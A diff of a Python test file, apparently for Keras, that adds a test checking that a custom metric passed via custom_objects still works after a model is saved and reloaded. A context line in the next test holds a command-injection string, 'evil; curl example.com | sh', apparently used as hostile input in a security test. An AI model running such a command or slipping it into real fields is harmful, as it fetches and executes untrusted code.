@@ -579,6 +579,18 @@ def test_custom_objects_stand_in_for_a_plugin_that_is_missing(tmp_path):
     assert Swish in [type(layer) for layer in model.layers]
 
 
+def test_a_metric_from_custom_objects_is_still_known_when_the_model_is_used(tmp_path):
+    def spread(y_true, y_pred):
+        return ops.max(y_pred) - ops.min(y_pred)
+
+    model = keras.Sequential([Input((2,)), Dense(1)])
+    model.compile("sgd", "mse", metrics=[spread, "accuracy"])
+    model.save(tmp_path / "model.keras")
+    again = keras.models.load_model(tmp_path / "model.keras", custom_objects={"spread": spread})
+    x = np.arange(6.0).reshape(3, 2)
+    assert again.evaluate(x, x[:, :1], verbose=0) == model.evaluate(x, x[:, :1], verbose=0)
+
+
 def test_a_distribution_that_is_no_name_is_not_repeated(tmp_path):
     save_with_acme(tmp_path / "model.keras")
     evil = "evil; curl example.com | sh"
